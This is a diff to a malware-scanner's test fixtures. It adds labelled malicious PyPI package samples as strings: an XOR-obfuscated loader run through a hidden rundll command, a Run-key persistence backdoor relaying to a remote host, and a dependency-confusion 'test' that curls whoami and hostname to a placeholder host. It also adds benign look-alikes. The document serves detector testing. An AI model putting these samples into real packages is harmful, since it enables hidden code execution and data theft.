@@ -191,6 +191,47 @@ MALICIOUS_PYPI = {
             "dest = os.path.expanduser('~/Library/Application Support/Google/Chrome/Default/Extensions/hook')\n"
             "shutil.copytree(os.path.join(os.path.dirname(__file__), 'ext'), dest)\n"),
     },
+    # Encrypted payload shipped under a source name, decrypted with a fixed XOR key and run through a
+    # command line itself hidden by XOR.
+    "binary_source_xor_loader": {
+        "pkg/__init__.py": (
+            "import os, subprocess\n\n"
+            "def _load(here, key=0x5A, skey=0x21):\n"
+            "    src, dst = os.path.join(here, 'tables.py'), os.path.join(here, 'tables.dat')\n"
+            "    with open(src, 'rb') as f, open(dst, 'wb') as out:\n"
+            "        for byte in iter(lambda: f.read(1), b''):\n"
+            "            out.write(bytes([ord(byte) ^ key]))\n"
+            "    cmd = bytes([c ^ skey for c in b'\\x53\\x54\\x4f\\x45\\x4d\\x4d']).decode()\n"
+            "    subprocess.run(f'{cmd} \"{dst}\",Entry', shell=True)\n\n"
+            "_load(os.path.dirname(__file__))\n"),
+        "pkg/tables.py": bytes(range(256)) * 16,
+    },
+    # A packer's blob bigger than an ordinary module, loaded at import.
+    "large_packed_init": {
+        "pkg/__init__.py": ("from .pyarmor_runtime_000000 import __pyarmor__\n"
+                            "__pyarmor__(__name__, __file__, b'" + "\\x5a\\x01" * 12000 + "')\n"),
+    },
+    # Proxyware/backdoor: registers itself to start at logon and relays for a remote server.
+    "persist_and_connect": {
+        "pkg/agent.py": (
+            "import asyncio, sys, winreg\n\n"
+            "def install():\n"
+            "    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, winreg.KEY_SET_VALUE)\n"
+            "    winreg.SetValueEx(k, 'Helper', 0, winreg.REG_SZ, f'\"{sys.executable}\" \"{__file__}\" --b')\n\n"
+            "async def relay():\n"
+            "    r, w = await asyncio.open_connection('peers.relay-net.example', 4041)\n"
+            "    w.write(b'REGISTER\\n')\n"),
+    },
+    # Dependency-confusion probe: an implausible version and a beacon written as a test file.
+    "confusion_probe_in_test_file": {
+        "setup.py": ("from setuptools import setup\n"
+                     "setup(name='internal-auth-utils', version='99.99.99', packages=['pkg'])\n"),
+        "pkg/__init__.py": "",
+        "pkg/test_callback.py": (
+            "import subprocess\n\n"
+            "def test_callback():\n"
+            f"    subprocess.run(['curl', '-fsSL', '{HOOK}/poc?u=$(whoami)&h=$(hostname)&p=$(pwd)'])\n"),
+    },
 }
 
 # ----------------------------------------------------------------------------- benign neighbours
@@ -275,6 +316,46 @@ BENIGN_PYPI = {
             "import base64, zlib\n\n"
             "def load(blob: bytes) -> bytes:\n"
             "    return zlib.decompress(base64.b85decode(blob))\n"),
+    },
+    # PDF key derivation XORs bytes with key material next to a command-line tool call: no fixed key
+    # decoding a hidden string.
+    "pdf_key_xor_with_tool": {
+        "pkg/pdf.py": (
+            "import subprocess\n\n"
+            "def rc4_key(num, key):\n"
+            "    return bytes(num ^ k for k in key)\n\n"
+            "def linearize(path):\n"
+            "    subprocess.run(['qpdf', '--linearize', path, path + '.out'], check=True)\n"),
+    },
+    # A test fixture in UTF-16 (binary bytes under a .py name) in the tests folder.
+    "utf16_test_fixture": {
+        "tests/data/utf16_source.py": "# coding: utf-16\nprint('hello')\n".encode("utf-16") * 40,
+    },
+    # A generated table module: one huge line of data in __init__, nothing packed or evaluated.
+    "generated_table_init": {
+        "pkg/__init__.py": "WIDTHS = (" + "1, 2, " * 8000 + ")\n",
+    },
+    # A shell-completion installer appends to ~/.bashrc; the update check lives in another module.
+    "completion_installer": {
+        "pkg/completion.py": (
+            "import os\n\n"
+            "def install():\n"
+            "    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
+            "        f.write('eval \"$(_HELPER_COMPLETE=bash_source helper)\"\\n')\n"),
+        "pkg/update.py": (
+            "import requests\n\n"
+            "def latest():\n"
+            "    return requests.get('https://pypi.org/pypi/helper-lib/json', timeout=5).json()['info']['version']\n"),
+    },
+    # A high version in pyproject (a vendor numbering scheme) and the host name in log records.
+    "high_version_with_hostname_logs": {
+        "pyproject.toml": "[project]\nname = 'vendor-sdk'\nversion = '100.2.0'\n",
+        "pkg/log.py": (
+            "import logging, socket\n\n"
+            "class HostFilter(logging.Filter):\n"
+            "    def filter(self, record):\n"
+            "        record.host = socket.gethostname()\n"
+            "        return True\n"),
     },
 }
 
@@ -414,7 +495,7 @@ BENIGN_NPM = {
 }
 
 
-def package(ecosystem: str, files: dict[str, str]) -> tuple[dict[str, str], str]:
+def package(ecosystem: str, files: dict[str, str | bytes]) -> tuple[dict[str, str | bytes], str]:
     """The files as an archive would hold them, and the archive's top folder."""
     if ecosystem == "pypi":
         return ({"setup.py": setup_py("")} | files if "setup.py" not in files else files), "pkg-1.0/"
